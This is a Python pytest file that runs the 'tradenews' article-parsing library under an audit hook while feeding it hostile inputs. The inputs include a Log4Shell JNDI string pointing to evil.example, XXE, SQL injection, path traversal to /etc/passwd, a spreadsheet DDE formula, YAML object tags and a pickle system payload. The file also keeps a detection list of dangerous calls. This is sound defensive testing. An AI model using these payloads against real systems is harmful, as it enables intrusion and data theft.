"""What the interpreter sees while hostile texts are read and written: files, processes, sockets, pickles."""

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

import tradenews
from tradenews import SerializationError

WATCHED = """
import io, pathlib, sys
import tradenews, tradenews.cli
from tradenews import samples

named = pathlib.Path(sys.argv[1])
seen, armed = [], False
HARM = ("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "ctypes.",
        "pickle.", "marshal.load", "os.remove", "os.rename", "os.rmdir", "os.chmod", "os.link", "os.symlink",
        "shutil.", "urllib.", "http.", "ftplib.", "smtplib.", "webbrowser.", "code.", "os.putenv")

def watch(event, facts):
    if not armed:
        return
    if event.startswith(HARM) or event in ("exec", "compile", "os.mkdir"):
        seen.append((event, str(facts)[:200]))
    if event == "open" and isinstance(facts[1], str) and set(facts[1]) & set("wax+"):
        if isinstance(facts[0], int) or named not in pathlib.Path(facts[0]).parents:
            seen.append((event, str(facts)[:200]))

sys.addaudithook(watch)
EVIL = ("__import__('os').system('id')", "{{7*7}}", "${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0",
        "%s%n", "'; DROP TABLE x; --", "../../etc/passwd", "file:///etc/passwd", "http://evil.example/x.dtd",
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "!!python/object/apply:os.system")

def everything(evil):
    text = f"{evil}\\n\\n{evil} signed a contract worth $5 million with {evil} of Peru in 2016, {evil} said."
    for language in ("en", "es"):
        one = tradenews.parse(text, language, source=evil, title=evil, url=evil, byline=[evil])
        other = tradenews.parse(text.replace("5", "6"), language)
        dossier = tradenews.reconcile([one, other])
        assert tradenews.from_json(tradenews.to_json(dossier)) == dossier
        assert tradenews.from_json(tradenews.to_json(one)) == one
        for form in ("text", "html"):
            tradenews.render_dossier(dossier, [one, other], format=form)
        tradenews.render_html(one, whole_page=True)
        for name in ("jsonld", "ninjs", "displacy", "annotations"):
            list(getattr(tradenews, f"to_{name}")(one))
        for kind in ("figures", "deals", "actors", "events"):
            tradenews.record_table(one, kind).write_csv(io.StringIO())
            tradenews.record_table(one, kind).write_csv(named / f"{kind}.csv")
        for record in (*one.figures, *one.deals, *one.actors):
            str(tradenews.explain(one, record))
    tradenews.from_html(f"<title>{evil}</title><article><p>{text}</p></article>{evil}")
    tradenews.from_html(f'<?xml version="1.0"?>{evil}<html><body>{text}'.encode())
    list(tradenews.parse_many([text, evil]))
    (named / "in.txt").write_text(text)
    tradenews.cli.main(["parse", str(named / "in.txt"), "--output", str(named / "out.jsonl")])

everything("Acme")  # what is loaded and made at first use
for name in samples.names():
    tradenews.parse(samples.load(name))
armed = True
for evil in EVIL:
    everything(evil)
armed = False
print(*seen[:20], sep="\\n")
sys.exit(bool(seen))
"""


def test_nothing_is_run_and_nothing_written_but_what_is_named(tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-c", WATCHED, str(tmp_path)],
        capture_output=True,
        text=True,
        check=False,
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stdout + done.stderr[-3000:]
    assert {p.name for p in tmp_path.iterdir()} >= {"figures.csv", "in.txt", "out.jsonl"}


@pytest.mark.parametrize(
    "harm",
    ["open('elsewhere', 'w')", "__import__('pickle').loads(b'cos\\nsystem\\n.')", "eval('1')",
     "__import__('socket').socket()", "__import__('subprocess').run(['true'])"],
)  # fmt: skip
def test_the_watch_sees_harm(harm: str, tmp_path: Path) -> None:
    start, end = WATCHED.index("def everything"), WATCHED.index('everything("Acme")')
    short = f"{WATCHED[:start]}def everything(evil):\n    if armed: {harm}\n\n{WATCHED[end:]}"
    (tmp_path / "named").mkdir()
    short = short.replace("for name in samples.names():", "for name in ():")
    done = subprocess.run(
        [sys.executable, "-c", short, str(tmp_path / "named")],
        capture_output=True, text=True, check=False, cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 1, done.stdout + done.stderr[-2000:]
    assert done.stdout.strip()


ARTICLE = tradenews.to_json(tradenews.parse("Chile exported 10 tonnes of copper to Peru in 2016.", "en"))


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        ({"confidence": "1e400"}, "inf"),
        ({"confidence": "-1e400"}, "inf"),
        ({"confidence": "7"}, "between 0 and 1"),
        ({"confidence": "-0.1"}, "between 0 and 1"),
        ({"confidence": "1" + "0" * 400}, "too large"),
        ({"confidence": "NaN"}, "NaN is no JSON number"),
        ({"confidence": "-Infinity"}, "no JSON number"),
        ({"low": '"11"'}, r"low 11 is above high 10 @ \$.figures\[0\].amount"),
        ({"low": '"NaN"'}, "expected a decimal"),
        ({"low": '"1e5"'}, "expected a decimal"),
        ({"low": '"١٠"'}, "expected a decimal"),
        ({"low": "10"}, "decimal as a string"),
        ({"low": '"' + "9" * 401 + '"'}, "expected a decimal"),
        ({"low": '"1E+99999"'}, "expected a decimal"),
    ],
)
def test_numbers_that_are_none_are_refused(change: dict[str, str], problem: str) -> None:
    data = ARTICLE
    for name, value in change.items():
        data, count = re.subn(rf'("{name}": )[^,}}]+', lambda hit: hit[1] + value, data)  # noqa: B023
        assert count
    with pytest.raises(SerializationError, match=problem):
        tradenews.from_json(data)


@pytest.mark.parametrize("path", ["span", "sentence"])
def test_places_outside_of_the_text_are_refused(path: str) -> None:
    for span in ({"start": 5, "end": 200_000}, {"start": 5, "end": 2}, {"start": -1, "end": 2}):
        data = json.loads(ARTICLE)
        data["figures"][0][path] = span
        with pytest.raises(SerializationError, match=rf"outside of the text.* @ \$\.figures\[0\]\.{path}"):
            tradenews.from_dict(data)
    data = json.loads(ARTICLE)
    assumption = {"subject": "text", "chosen": "", "alternatives": [], "reason": ""}
    data["assumptions"] = [assumption | {"span": {"start": 0, "end": 999}}]
    with pytest.raises(SerializationError, match="assumptions"):
        tradenews.from_dict(data)


def test_many_faults_make_a_short_message() -> None:
    data = json.loads(ARTICLE)
    data["byline"] = [1] * 5000
    with pytest.raises(SerializationError, match="and 4950 more") as caught:
        tradenews.from_dict(data)
    assert len(caught.value.problems) == 5000
    assert len(str(caught.value)) < 5000
    data = json.loads(ARTICLE) | {f"k{i}": i for i in range(5000)}
    with pytest.raises(SerializationError, match="and 4980 more"):
        tradenews.from_dict(data)


@pytest.mark.parametrize("name", ["title", "source", "url", "text"])
def test_lone_surrogates_survive(name: str) -> None:
    data = json.loads(ARTICLE)
    data[name] = "\udc00" + "\ud800" * 60
    article = tradenews.from_json(json.dumps(data))
    assert getattr(article, name) == data[name]
    assert tradenews.from_json(tradenews.to_json(article).encode()) == article
